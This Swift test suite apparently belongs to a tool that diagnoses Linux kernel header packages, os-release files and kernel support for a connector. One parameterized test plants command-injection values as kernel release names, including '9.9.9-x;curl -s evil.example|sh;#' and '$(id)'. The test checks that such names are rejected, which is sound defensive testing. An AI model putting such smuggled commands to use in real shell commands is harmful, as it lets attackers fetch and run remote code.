import AmpfixCore
import AmpfixTestSupport
import Testing

@Suite struct HeaderPackageRulesTests {
    struct Case: Sendable, CustomStringConvertible {
        var os: String
        var release: String
        var name: String
        var match: HeaderPackage.VersionMatch
        var description: String { "\(os) \(release)" }
    }

    static let cases: [Case] = [
        Case(os: "ID=debian\n", release: "6.1.0-18-amd64", name: "linux-headers-6.1.0-18-amd64", match: .any),
        Case(os: "ID=ubuntu\nID_LIKE=debian\n", release: "5.15.0-91-generic", name: "linux-headers-5.15.0-91-generic", match: .any),
        Case(os: "ID=\"rhel\"\nID_LIKE=\"fedora\"\n", release: "5.14.0-362.8.1.el9_3.x86_64", name: "kernel-devel", match: .exact("5.14.0-362.8.1.el9_3.x86_64")),
        Case(os: "ID=\"almalinux\"\nID_LIKE=\"rhel centos fedora\"\n", release: "5.14.0-362.el9.x86_64", name: "kernel-devel", match: .exact("5.14.0-362.el9.x86_64")),
        Case(os: "ID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\n", release: "4.18.0-513.5.1.el8_9.x86_64", name: "kernel-devel", match: .exact("4.18.0-513.5.1.el8_9.x86_64")),
        Case(os: "ID=\"centos\"\nID_LIKE=\"rhel fedora\"\n", release: "3.10.0-1160.el7.x86_64", name: "kernel-devel", match: .exact("3.10.0-1160.el7.x86_64")),
        Case(os: "ID=fedora\n", release: "6.6.8-200.fc39.x86_64", name: "kernel-devel", match: .exact("6.6.8-200.fc39.x86_64")),
        Case(os: "ID=\"amzn\"\nID_LIKE=\"centos rhel fedora\"\n", release: "6.1.66-91.160.amzn2023.x86_64", name: "kernel-devel", match: .exact("6.1.66-91.160.amzn2023.x86_64")),
        Case(os: "ID=\"rhel\"\n", release: "5.14.0-362.8.1.el9_3.x86_64+debug", name: "kernel-debug-devel", match: .exact("5.14.0-362.8.1.el9_3.x86_64")),
        Case(os: "ID=\"centos\"\nID_LIKE=\"rhel fedora\"\n", release: "3.10.0-1160.el7.x86_64.debug", name: "kernel-debug-devel", match: .exact("3.10.0-1160.el7.x86_64")),
        Case(os: "ID=\"rhel\"\n", release: "4.18.0-513.5.1.rt7.307.el8_9.x86_64", name: "kernel-rt-devel", match: .exact("4.18.0-513.5.1.rt7.307.el8_9.x86_64")),
        Case(os: "ID=\"rhel\"\n", release: "5.14.0-362.8.1.el9_3.x86_64+rt", name: "kernel-rt-devel", match: .exact("5.14.0-362.8.1.el9_3.x86_64")),
        Case(os: "ID=\"ol\"\nID_LIKE=\"fedora\"\n", release: "5.15.0-200.131.27.el9uek.x86_64", name: "kernel-uek-devel", match: .exact("5.15.0-200.131.27.el9uek.x86_64")),
        Case(os: "ID=\"ol\"\nID_LIKE=\"fedora\"\n", release: "5.14.0-362.8.1.el9_3.x86_64", name: "kernel-devel", match: .exact("5.14.0-362.8.1.el9_3.x86_64")),
        Case(os: "ID=\"sles\"\nID_LIKE=\"suse\"\n", release: "5.14.21-150500.55.39-default", name: "kernel-default-devel", match: .prefix("5.14.21-150500.55.39")),
        Case(os: "ID=\"opensuse-leap\"\nID_LIKE=\"suse opensuse\"\n", release: "5.14.21-150500.55.39-default", name: "kernel-default-devel", match: .prefix("5.14.21-150500.55.39")),
    ]

    @Test(arguments: cases)
    func headerPackage(_ c: Case) throws {
        let family = try #require(DistroFamily.of(OSRelease(path: "/etc/os-release", text: c.os)))
        let package = HeaderPackage.forKernel(c.release, family: family)
        #expect(package.name == c.name)
        #expect(package.match == c.match)
    }

    @Test func aReleaseNumberThatDoesNotFitOrIsNoASCIIDigitEndsTheNumbers() {
        #expect(KernelVersion.numbers("6.1.0-28-amd64") == [6, 1, 0])
        #expect(KernelVersion.numbers("4.14") == [4, 14])
        // An overflow would otherwise drop out and let the next number take its place.
        #expect(KernelVersion.numbers("4.99999999999999999999.15") == [4])
        #expect(KernelVersion.numbers("6..1") == [6])
        #expect(KernelVersion.numbers("٤.١٤") == [], "Arabic-Indic digits are no release numbers")
        #expect(KernelVersion.numbers("5.٤.1") == [5])
        #expect(KernelVersion.numbers("") == [])
    }

    @Test func anUnknownFamilyHasNoRule() {
        #expect(DistroFamily.of(OSRelease(path: "/etc/os-release", text: "ID=arch\n")) == nil)
        #expect(DistroFamily.of(OSRelease(path: "/etc/os-release", text: "ID=alpine\nID_LIKE=\n")) == nil)
    }

    @Test func suseVersionsMatchByPrefixOnly() {
        let package = HeaderPackage.forKernel("5.14.21-150500.55.39-default", family: .suse)
        #expect(package.isSatisfied(by: ["5.14.21-150500.55.39.1.x86_64"]))
        #expect(!package.isSatisfied(by: ["5.14.21-150500.55.390.1.x86_64"]))
        #expect(!package.isSatisfied(by: ["5.14.21-150500.55.38.1.x86_64"]))
    }

    @Test func osReleaseWarnsAboutMalformedLines() {
        let os = OSRelease(path: "/etc/os-release", text: "ID=debian\nthis is not a pair\nVERSION_ID=\"12\nNAME=\"Debian GNU/Linux\"\n=x\n")
        #expect(os.id == "debian")
        // Inside VERSION_ID's open quote until the quote on the next line: not a key of its own.
        #expect(os.fields["NAME"] == nil)
        #expect(os.warnings.map(\.description) == [
            "/etc/os-release:2: not a KEY=VALUE line; ignored",
            "/etc/os-release:3: unterminated quote in VERSION_ID; ignored",
            "/etc/os-release:5: not a KEY=VALUE line; ignored",
        ])
    }

    /// Only the keys ampfix reads are kept: the rest of os-release (a vendor's tokens, URLs,
    /// malformed names) never reaches a report.
    /// systemd ends a line at "\r" and NUL too, and a quoted value may run over lines: what
    /// follows a CR, or is inside another key's value, is never read as a key (before, the
    /// bundle took `ID=debian\rDB_PASSWORD=…` and a NAME line inside API_TOKEN's value).
    @Test func osReleaseLinesEndAtCRAndNULAndQuotedValuesSpanLines() {
        let text = "NAME=Debian\nAPI_TOKEN=\"line1\nNAME=SECRET1\n\"\nID=debian\rDB_PASSWORD=SECRET2\nVERSION_ID=12\u{0}X=SECRET3\n"
        let os = OSRelease(path: KernelFacts.osReleasePaths[0], text: text)
        #expect(os.fields == ["NAME": "Debian", "ID": "debian", "VERSION_ID": "12"], "\(os.fields)")
        #expect(!os.usedLines.contains("SECRET"), "\(os.usedLines)")
        #expect(OSRelease(path: "p", text: os.usedLines).fields == os.fields, "the written lines read back the same")
        #expect(OSRelease(path: "p", text: OSRelease(path: "p", text: "NAME=\"a \\\"b\\\" $x\"\n").usedLines).fields["NAME"] != nil)
    }

    @Test func osReleaseKeepsOnlyTheKeysAmpfixReads() {
        let os = OSRelease(path: KernelFacts.osReleasePaths[0], text: "ID=debian\nSUPPORT_TOKEN=\"s3cr3t\"\nHOME_URL=https://x.example/\nbad key=1\nVERSION_ID=12\n")
        #expect(Set(os.fields.keys) == ["ID", "VERSION_ID"])
        #expect(os.warnings.isEmpty, "\(os.warnings)")
    }
}

@Suite struct KernelSupportTableTests {
    static let text = "# family path min max\nrhel ebpf 4.18 6.12\nrhel kmod 3.10 4.18\ndebian ebpf 5.4 6.12 # comment\n"

    @Test func boundsAreInclusiveAndPrefixWide() throws {
        let table = try KernelSupportTable(path: "t.tsv", text: Self.text)
        #expect(table.paths(for: "6.12.9-100.fc40.x86_64", family: .rhel).map(\.path) == ["ebpf"])
        #expect(table.paths(for: "4.18.0-513.el8.x86_64", family: .rhel).map(\.path) == ["ebpf", "kmod"])
        #expect(table.paths(for: "6.13.0-1.x86_64", family: .rhel).isEmpty)
        #expect(table.paths(for: "5.3.0-1-amd64", family: .debian).isEmpty)
        #expect(table.paths(for: "6.1.0-18-amd64", family: .debian).map(\.line) == [4])
        #expect(table.paths(for: "6.1.0", family: .suse).isEmpty)
    }

    @Test func anEmptyTableOrInvertedBoundsAreRefused() {
        for (text, message) in [
            ("", "t.tsv has no rows: it names no supported kernel, so fault 16 could decide nothing"),
            ("# only a comment\n\n", "t.tsv has no rows: it names no supported kernel, so fault 16 could decide nothing"),
            ("debian ebpf 6.12 5.4\n", "t.tsv:1: the minimum 6.12 is above the maximum 5.4"),
        ] {
            let error = #expect(throws: KernelSupportTable.Malformed.self) { try KernelSupportTable(path: "t.tsv", text: text) }
            #expect(error?.description == message)
        }
        #expect(throws: Never.self) { try KernelSupportTable(path: "t.tsv", text: "debian ebpf 4.18 4\n") }
    }

    @Test func aMalformedRowNamesItsLine() {
        #expect(throws: KernelSupportTable.Malformed.self) { try KernelSupportTable(path: "t.tsv", text: "rhel ebpf 4.18\n") }
        do {
            _ = try KernelSupportTable(path: "t.tsv", text: "rhel ebpf 4.18 6.12\narch ebpf 1 2\n")
        } catch {
            #expect("\(error)" == "t.tsv:2: unknown family 'arch' (debian, rhel, oracle, suse)")
        }
    }
}

@Suite struct KernelFaultTests {
    static let debian = "ID=debian\nVERSION_ID=\"12\"\n"
    static func host(_ files: [String: String], kernel: String? = "6.1.0-18-amd64") -> MemoryFacts {
        var host = MemoryFacts(files: ["/etc/os-release": debian].merging(files) { $1 })
        host.kernel = kernel
        return host
    }

    static func fault11(_ packages: [String: PackageVersions]?, kind: PackageBackend = .apt, kernel: String? = nil) -> KernelHeadersFault {
        let source = packages.map { p in PackageSource { .success(MemoryPackages(kind: kind, p)) } } ?? PackageSource.unavailable(.msg("no package database"))
        return KernelHeadersFault(options: RepairOptions(kernelRelease: kernel), packages: source)
    }

    @Test func btfFromSysOrConfigMeansOk() {
        #expect(Self.fault11(nil).diagnose(Self.host(["/sys/kernel/btf/vmlinux": ""])).status == .ok)
        #expect(Self.fault11(nil).diagnose(Self.host(["/boot/config-6.1.0-18-amd64": "CONFIG_DEBUG_INFO_BTF=y\n"])).status == .ok)
        #expect(Self.fault11(nil).diagnose(Self.host(["/proc/self": "", "/proc/config.gz": "CONFIG_DEBUG_INFO_BTF=y\n"])).status == .ok)
        // /sys and /proc describe the running kernel only, not one named with --kernel.
        let other = Self.fault11(nil, kernel: "6.1.0-9-amd64").diagnose(Self.host(["/sys/kernel/btf/vmlinux": "", "/proc/config.gz": "CONFIG_DEBUG_INFO_BTF=y\n"]))
        #expect(other.status == .present)
    }

    @Test func withoutProcTheConfigIsNotGuessed() {
        // A chroot without /proc mounted: /proc/config.gz cannot be read, and the evidence says why.
        let finding = Self.fault11(nil).diagnose(Self.host(["/proc/config.gz": "CONFIG_DEBUG_INFO_BTF=y\n"]))
        #expect(finding.status == .present)
        #expect(finding.evidence.contains { $0.contains("/proc is not mounted: /proc/config.gz was not read") })
    }

    @Test func headersOnDiskOrInstalledMeanOk() {
        #expect(Self.fault11(nil).diagnose(Self.host(["/lib/modules/6.1.0-18-amd64/build/Makefile": ""])).status == .ok)
        let installed = Self.fault11(["linux-headers-6.1.0-18-amd64": PackageVersions(installed: ["6.1.76-1"], candidate: "6.1.76-1")])
        let finding = installed.diagnose(Self.host([:]))
        #expect(finding.status == .ok)
        #expect(finding.evidenceText.contains("linux-headers-6.1.0-18-amd64 is installed (apt: 6.1.76-1)"))
    }

    @Test func aCandidateIsInstalledWithAptGet() {
        var host = Self.host(["/usr/bin/apt-get": ""])
        let fault = Self.fault11(["linux-headers-6.1.0-18-amd64": PackageVersions(installed: [], candidate: "6.1.76-1")])
        var finding = fault.diagnose(host)
        #expect(finding.status == .present)
        #expect(finding.repairs == [.installPackages(tool: "apt-get", arguments: ["install", "-y", "linux-headers-6.1.0-18-amd64"], packages: ["linux-headers-6.1.0-18-amd64"])])
        #expect(finding.evidenceText.contains("linux-headers-6.1.0-18-amd64 is not installed; candidate 6.1.76-1 (apt)"))

        host.installBlocker = "ampfix runs inside a dpkg maintainer script (DPKG_MAINTSCRIPT_NAME=postinst), which holds the package lock"
        finding = fault.diagnose(host)
        #expect(finding.repairs.isEmpty)
        #expect(finding.evidence.contains { $0.hasPrefix("not installing now: ampfix runs inside a dpkg maintainer script") })
        #expect(finding.stepsText.first == "Install it when no package transaction is running (for an image: chroot into it): apt-get install -y linux-headers-6.1.0-18-amd64")
    }

    @Test func withoutACandidateNothingIsPlanned() {
        let fault = Self.fault11(["linux-headers-6.1.0-18-amd64": PackageVersions(installed: [], candidate: nil)])
        let finding = fault.diagnose(Self.host(["/usr/bin/apt-get": ""]))
        #expect(finding.repairs.isEmpty)
        #expect(finding.evidenceText.contains("linux-headers-6.1.0-18-amd64 is not installed; no candidate: no repository offers it"))
    }

    @Test func rhelInstallsTheExactReleaseWithDnf() {
        var host = MemoryFacts(files: ["/etc/os-release": "ID=\"rhel\"\nID_LIKE=\"fedora\"\n", "/usr/bin/dnf": ""])
        host.kernel = "5.14.0-362.8.1.el9_3.x86_64"
        let fault = Self.fault11(["kernel-devel": PackageVersions(installed: ["5.14.0-70.13.1.el9_0.x86_64"], candidate: nil)], kind: .rpm)
        let finding = fault.diagnose(host)
        #expect(finding.status == .present)
        #expect(finding.evidenceText.contains("kernel-devel is installed only as 5.14.0-70.13.1.el9_0.x86_64; librpm cannot see repositories, so the candidate is not known"))
        #expect(finding.repairs.first?.summary.description == "run dnf install -y kernel-devel-5.14.0-362.8.1.el9_3.x86_64")
    }

    @Test func withoutAPackageDatabaseTheExactNameIsStillGiven() {
        let finding = Self.fault11(nil).diagnose(Self.host([:]))
        #expect(finding.status == .present)
        #expect(finding.evidenceText.contains("the header package of 6.1.0-18-amd64 is linux-headers-6.1.0-18-amd64"))
        #expect(finding.evidenceText.contains("whether linux-headers-6.1.0-18-amd64 is installed or installable could not be looked up: no package database"))
    }

    @Test func unknownFamilyOrKernelIsUnknown() {
        var arch = MemoryFacts(files: ["/etc/os-release": "ID=arch\n"])
        arch.kernel = "6.7.1-arch1-1"
        let finding = Self.fault11(nil).diagnose(arch)
        #expect(finding.status == .unknown)
        #expect(finding.evidenceText.contains("ampfix knows no header package for this distribution (ID=arch ID_LIKE='' VERSION_ID=?)"))
        #expect(Self.fault11(nil).diagnose(MemoryFacts(files: ["/etc/os-release": Self.debian])).status == .unknown)
    }

    @Test func anUnsupportedKernelListsSupportedInstalledOnes() throws {
        var host = MemoryFacts(files: ["/etc/os-release": "ID=\"rhel\"\n"])
        host.kernel = "6.14.0-1.el10.x86_64"
        let packages = PackageSource { .success(MemoryPackages(kind: .rpm, [
            "kernel-core": PackageVersions(installed: ["6.14.0-1.el10.x86_64", "5.14.0-362.8.1.el9_3.x86_64"], candidate: nil),
        ])) }
        let table = try KernelSupportTable(path: "t.tsv", text: KernelSupportTableTests.text)
        let finding = IncompatibleKernelFault(options: RepairOptions(), packages: packages, table: .success(table)).diagnose(host)
        #expect(finding.status == .present)
        #expect(finding.repairs.isEmpty)
        #expect(finding.stepsText.first == "Boot an installed kernel the support table lists (5.14.0-362.8.1.el9_3.x86_64) once ampfix preflight --kernel 5.14.0-362.8.1.el9_3.x86_64 predicts no fault 16 for it: grubby --set-default /boot/vmlinuz-5.14.0-362.8.1.el9_3.x86_64, then reboot; or upgrade the connector to a version that supports 6.14.0-1.el10.x86_64.")
        #expect(!finding.stepsText.contains { $0.hasPrefix("Or ") }, "no step hangs on one that is not there")

        host.kernel = "5.14.0-362.8.1.el9_3.x86_64"
        #expect(IncompatibleKernelFault(options: RepairOptions(), packages: packages, table: .success(table)).diagnose(host).status == .ok)
        let broken = IncompatibleKernelFault(options: RepairOptions(), packages: packages, table: .failure(.init(description: "t.tsv:3: bad")))
        #expect(broken.diagnose(host).status == .unknown)
    }

    @Test func debianKernelsAreFoundByExactNamesFromLibModules() throws {
        // 6.1.0-18 is installed, 5.10.0-28 only as the -unsigned image, 4.19.0-old is a leftover
        // directory of a removed kernel; linux-image-6.13.0-1-amd64 is installed but without
        // /lib/modules (impossible for a real image): no scan of the database finds it.
        var host = MemoryFacts(files: [
            "/etc/os-release": Self.debian,
            "/lib/modules/6.13.0-1-amd64/modules.dep": "",
            "/lib/modules/6.1.0-18-amd64/modules.dep": "",
            "/lib/modules/5.10.0-28-amd64/modules.dep": "",
            "/lib/modules/4.19.0-old-amd64/modules.order": "",
        ])
        host.kernel = "6.13.0-1-amd64"
        let packages = PackageSource { .success(MemoryPackages(kind: .apt, [
            "linux-image-6.1.0-18-amd64": PackageVersions(installed: ["6.1.76-1"], candidate: "6.1.76-1"),
            "linux-image-5.10.0-28-amd64-unsigned": PackageVersions(installed: ["5.10.209-2"], candidate: nil),
            "linux-image-4.19.0-old-amd64": PackageVersions(installed: [], candidate: nil),
        ])) }
        let table = try KernelSupportTable(path: "t.tsv", text: KernelSupportTableTests.text)
        let finding = IncompatibleKernelFault(options: RepairOptions(), packages: packages, table: .success(table)).diagnose(host)
        #expect(finding.status == .present)
        #expect(finding.evidenceText.contains("installed kernels (apt): 6.1.0-18-amd64, 5.10.0-28-amd64"), "\(finding.evidenceText)")
        #expect(finding.stepsText.first?.hasPrefix("Boot an installed kernel the support table lists (6.1.0-18-amd64, 5.10.0-28-amd64) once ampfix preflight --kernel 6.1.0-18-amd64") == true)
    }

    static let ebpfOptions = ["BPF_SYSCALL", "BPF_EVENTS", "KPROBES", "KPROBE_EVENTS", "FANOTIFY", "FANOTIFY_ACCESS_PERMISSIONS", "PROC_EVENTS", "BSD_PROCESS_ACCT", "DEBUG_INFO_BTF"]
        .map { "CONFIG_\($0)=y\n" }.joined()

    /// The kernel's evidence decides before the table; a placeholder row alone never says "present".
    @Test func theKernelsEvidenceComesBeforeTheTableAndPlaceholdersNeverDecideAlone() throws {
        let placeholder = try KernelSupportTable(path: "t.tsv", text: "debian ebpf 5.4 6.12 placeholder\n")
        var host = MemoryFacts(files: ["/etc/os-release": Self.debian])
        host.kernel = "6.18.1-amd64"
        let packages = PackageSource { .success(MemoryPackages(kind: .apt, [:])) }
        func diagnose(_ table: KernelSupportTable) -> Finding {
            IncompatibleKernelFault(options: RepairOptions(), packages: packages, table: .success(table)).diagnose(host)
        }
        // No configuration to read: only the placeholder row puts 6.18 outside.
        let unknown = diagnose(placeholder)
        #expect(unknown.status == .unknown, "\(unknown.evidenceText)")
        #expect(unknown.evidenceText.contains { $0.contains("only placeholder rows of t.tsv put 6.18.1-amd64 outside") })
        // The same row from a real source decides.
        #expect(diagnose(try KernelSupportTable(path: "t.tsv", text: "debian ebpf 5.4 6.12 release-notes\n")).status == .present)
        // The kernel's configuration has what the programs need: ok, the table overruled.
        host.files["/boot/config-6.18.1-amd64"] = Self.ebpfOptions
        let ok = diagnose(placeholder)
        #expect(ok.status == .ok, "\(ok.evidenceText)")
        #expect(ok.evidenceText.contains { $0.hasPrefix("the kernel support table disagrees and is overruled by the kernel's evidence") })
        // No table at all: the evidence decides alone. A table there and unreadable: unknown, said.
        func withTable(_ table: Result<KernelSupportTable, KernelSupportTable.Malformed>) -> FindingStatus {
            IncompatibleKernelFault(options: RepairOptions(), packages: packages, table: table).diagnose(host).status
        }
        #expect(withTable(.failure(.init(description: "t.tsv: No such file or directory", missing: true))) == .ok)
        #expect(withTable(.failure(.init(description: "t.tsv: not a regular file"))) == .unknown)
        // A configuration that sets nothing is none: the placeholder row alone then says inside,
        // which is no more reason for ok than outside is for present.
        host.kernel = "6.1.0-18-amd64"
        host.files = [KernelFacts.osReleasePaths[0]: Self.debian, EBPFReadiness.configPath("6.1.0-18-amd64"): "\n\n"]
        let empty = diagnose(placeholder)
        #expect(empty.status == .unknown, "\(empty.evidenceText)")
        #expect(empty.evidenceText.contains("\(EBPFReadiness.configPath("6.1.0-18-amd64")) sets no kernel option: not a kernel's configuration"))
        host.files[EBPFReadiness.configPath("6.1.0-18-amd64")] = nil
        // Built without kprobes: present inside the table's bounds too, with the options to look for.
        host.kernel = "6.1.0-18-amd64"
        host.files = [KernelFacts.osReleasePaths[0]: Self.debian, EBPFReadiness.configPath("6.1.0-18-amd64"): Self.ebpfOptions.replacing("CONFIG_KPROBES=y", with: "# CONFIG_KPROBES is not set")]
        let noKprobes = diagnose(placeholder)
        #expect(noKprobes.status == .present)
        #expect(noKprobes.stepsText.first == "Boot a kernel built with CONFIG_KPROBES=y (most distributions' standard kernels are).")
        #expect(noKprobes.stepsText.contains("Upgrade the connector to a version that supports 6.1.0-18-amd64, or install a kernel it supports and check it with ampfix preflight --kernel RELEASE before you reboot."))
    }
}

@Suite struct KernelContextTests {
    /// Counts reads of os-release, passing everything else to MemoryFacts.
    final class CountingFacts: HostFacts {
        var inner: MemoryFacts
        var osReleaseReads = 0
        init(_ inner: MemoryFacts) { self.inner = inner }
        func directoryTree(at path: String) throws -> DirectoryTree { try inner.directoryTree(at: path) }
        func readBytes(_ path: String) throws -> [UInt8]? {
            if path == "/etc/os-release" { osReleaseReads += 1 }
            return try inner.readBytes(path)
        }
        func exists(_ path: String) -> Bool { inner.exists(path) }
        func serviceAvailability(_ unit: String) -> ServiceAvailability { inner.serviceAvailability(unit) }
        func runningKernel() -> String? { inner.runningKernel() }
        func readCompressedText(_ path: String) throws -> String? { try inner.readCompressedText(path) }
        func list(_ path: String) -> [String]? { inner.list(path) }
        func packageInstallBlocker() -> Message? { inner.packageInstallBlocker() }
    }

    /// A /lib/modules entry that is not one plain word never becomes the release that goes
    /// into printed commands (`apt-get install -y linux-headers-9.9.9-x;curl -s evil.example|sh;#`
    /// before): it is passed over for the newest plain one.
    @Test(arguments: ["9.9.9-x;curl -s evil.example|sh;#", "9.9.9 -k", "9.9.9$(id)", "-9.9.9", "9.9.9`id`"])
    func aReleaseThatIsNoPlainWordIsPassedOver(planted: String) {
        let bad = MemoryFacts(files: ["/etc/os-release": "ID=debian\n", "/lib/modules/\(planted)/modules.dep": ""])
        #expect(KernelFacts.gather(bad, options: RepairOptions()).release == nil)
        let both = MemoryFacts(files: ["/etc/os-release": "ID=debian\n", "/lib/modules/\(planted)/modules.dep": "", "/lib/modules/6.1.0-18-amd64/modules.dep": ""])
        #expect(KernelFacts.gather(both, options: RepairOptions()).release == "6.1.0-18-amd64")
        #expect(!KernelRelease.isValid(planted))
        for real in ["6.1.0-18-amd64", "5.14.0-362.8.1.el9_3.x86_64", "5.15.0-1034-azure+", "6.8.0-rc1~1"] { #expect(KernelRelease.isValid(real), "\(real)") }
    }

    @Test func faultsSharingAContextReadTheKernelFactsOnce() throws {
        var memory = MemoryFacts(files: ["/etc/os-release": "ID=debian\n", "/opt/cisco": ""])
        memory.kernel = "6.1.0-18-amd64"
        let host = CountingFacts(memory)
        let kernel = KernelContext(options: RepairOptions())
        let packages = PackageSource.unavailable(.msg("none"))
        let table = try KernelSupportTable(path: "t.tsv", text: KernelSupportTableTests.text)
        let checks: [any FaultCheck] = [
            KernelHeadersFault(kernel: kernel, packages: packages),
            IncompatibleKernelFault(kernel: kernel, packages: packages, table: .success(table)),
            KernelModuleFault.filesystemMonitor(kernel: kernel, modules: MemoryKernelModules(modules: [:], states: [:])),
            KernelModuleFault.networkMonitor(kernel: kernel, modules: MemoryKernelModules(modules: [:], states: [:])),
        ]
        let findings = checks.map { $0.diagnose(host) }
        #expect(findings.allSatisfy { $0.evidence.first?.hasPrefix("kernel 6.1.0-18-amd64 (uname)") == true })
        #expect(host.osReleaseReads == 1)
    }
}
